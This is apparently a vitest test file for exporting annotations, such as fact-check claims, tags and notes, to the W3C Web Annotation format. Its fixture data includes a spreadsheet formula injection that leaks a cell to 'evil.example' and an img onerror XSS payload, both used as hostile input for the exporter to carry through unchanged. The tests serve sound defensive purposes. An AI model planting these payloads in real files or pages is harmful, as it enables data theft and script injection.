import { describe, expect, it } from 'vitest';
import { partiesById } from '../../../core/exchange/snapshot';
import { toW3CAnnotation, toW3CCollection, type W3CBody } from '../../../core/exchange/w3c';
import { EXPORTED_AT, inPairs, runW3CMusts, sampleSnapshot } from './support';

const snapshot = sampleSnapshot();
const collection = toW3CCollection(snapshot, { exportedAt: EXPORTED_AT });
const byId = new Map(collection.first.items.map((item) => [item.id, item]));
const bodies = (id: string): W3CBody[] => [byId.get(id)?.body ?? []].flat();
const ALL_MUSTS_PASSED = /^\d+ passed, 0 failed/;

describe('W3C Web Annotation export', () => {
  it('is one collection whose embedded first page holds every annotation', () => {
    expect(collection).toMatchObject({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      type: 'AnnotationCollection',
      total: snapshot.annotations.length,
      created: EXPORTED_AT,
      first: { type: 'AnnotationPage', startIndex: 0, partOf: { id: collection.id, total: snapshot.annotations.length } },
    });
    expect(collection.first.items).toHaveLength(snapshot.annotations.length);
  });

  it('gives every annotation an IRI: UUIDs as urn:uuid, other ids under our namespace', () => {
    expect(byId.has('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000001')).toBe(true);
    expect(byId.has('urn:x-marginalia:legacy-note-1')).toBe(true);
  });

  it('targets the page with a TextQuoteSelector and a TextPositionSelector', () => {
    const item = byId.get('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000004')!;
    expect(item.target).toEqual({
      source: 'https://news.example.org/2024/05/budget-vote.html',
      selector: [
        {
          type: 'TextQuoteSelector',
          exact: 'Unemployment has fallen to 4.1%, the lowest since records began',
          prefix: 'She said: "',
          suffix: '", adding',
        },
        { type: 'TextPositionSelector', start: 410, end: 473 },
      ],
    });
    expect(item.created).toBe('2024-05-02T10:05:00.000Z');
    expect(item.modified).toBe('2024-05-04T12:00:00.000Z');
  });

  it('says why each annotation was made', () => {
    const motivation = (n: string) => byId.get(`urn:uuid:0c5d1e2f-0001-4a6b-8c7d-00000000000${n}`)?.motivation;
    expect(motivation('1')).toBe('highlighting'); // no note, no tags
    expect(motivation('2')).toBe('commenting'); // a note
    expect(motivation('3')).toBe('tagging'); // tags only
    expect(motivation('4')).toBe('assessing'); // a claim rated True
    expect(motivation('5')).toBe('assessing'); // Misleading
    expect(motivation('6')).toBe('highlighting'); // an Unrated claim with nothing else
    expect(motivation('7')).toBe('identifying'); // a party mention
  });

  it('writes the note, the tags and the claim as bodies with purposes', () => {
    expect(bodies('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000004')).toEqual([
      {
        type: 'TextualBody',
        value: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        purpose: 'commenting',
        format: 'text/plain',
      },
      { type: 'TextualBody', value: 'economy', purpose: 'tagging', format: 'text/plain' },
      { type: 'TextualBody', value: 'statistics', purpose: 'tagging', format: 'text/plain' },
      { type: 'TextualBody', value: 'True', purpose: 'classifying', format: 'text/plain' },
      { type: 'TextualBody', value: 'Claimant: Maria Example', purpose: 'describing', format: 'text/plain' },
      { type: 'TextualBody', value: 'About: Ministry of Finance', purpose: 'describing', format: 'text/plain' },
      { type: 'TextualBody', value: 'About: Example Statistics Office', purpose: 'describing', format: 'text/plain' },
      { type: 'SpecificResource', purpose: 'linking', source: 'https://stats.example.gov/labour/2024-04' },
      { type: 'SpecificResource', purpose: 'linking', source: 'https://archive.example.org/web/2024/stats?a=1&b=2' },
    ]);
    expect(bodies('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000006')).toEqual([
      { type: 'TextualBody', value: 'Unrated', purpose: 'classifying', format: 'text/plain' },
    ]);
    expect(bodies('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000007')).toEqual([
      { type: 'TextualBody', value: 'Maria Example', purpose: 'identifying', format: 'text/plain' },
    ]);
    expect(byId.get('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000001')).not.toHaveProperty('body');
  });

  it('keeps Unicode and hostile text as it is: JSON needs no escaping beyond its own', () => {
    const arabic = byId.get('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000008')!;
    expect(arabic.target.selector[0]).toMatchObject({ exact: 'ستنخفض أسعار المياه بنسبة خمسين في المئة' });
    const text = JSON.stringify(collection);
    expect(JSON.parse(text)).toEqual(collection);
    expect(bodies('urn:uuid:0c5d1e2f-0001-4a6b-8c7d-000000000005')[0]).toMatchObject({
      value: expect.stringContaining('<img src=x onerror=alert(1)>'),
    });
  });
});

describe('W3C Web Annotation export against the web-platform-tests annotation-model "Musts"', () => {
  it('passes for every annotation on its own', async () => {
    const parties = partiesById(snapshot);
    const lines = await inPairs(snapshot.annotations, (a, i) =>
      runW3CMusts('annotation', toW3CAnnotation(a, parties, { standalone: true }), `annotation-${i}`),
    );
    expect(lines).toHaveLength(11);
    for (const line of lines) expect(line).toMatch(ALL_MUSTS_PASSED);
  }, 60_000);

  it('passes for the collection, and for its page', async () => {
    const [collectionLine, embeddedPageLine, pageLine] = await Promise.all([
      runW3CMusts('collection', collection, 'collection'),
      runW3CMusts('page', collection, 'collection-with-page'),
      runW3CMusts('page', { '@context': collection['@context'], ...collection.first }, 'page'),
    ]);
    expect(collectionLine).toMatch(ALL_MUSTS_PASSED);
    expect(embeddedPageLine).toMatch(ALL_MUSTS_PASSED);
    expect(pageLine).toMatch(ALL_MUSTS_PASSED);
  }, 30_000);

  it('the checks can fail: an annotation without a target or an IRI id does not pass', async () => {
    const parties = partiesById(snapshot);
    const { target: _target, ...broken } = toW3CAnnotation(snapshot.annotations[0]!, parties, { standalone: true });
    const line = await runW3CMusts('annotation', { ...broken, id: 'not an iri' }, 'broken');
    expect(line).toMatch(/\d+ passed, [1-9]\d* failed/);
  }, 30_000);
});
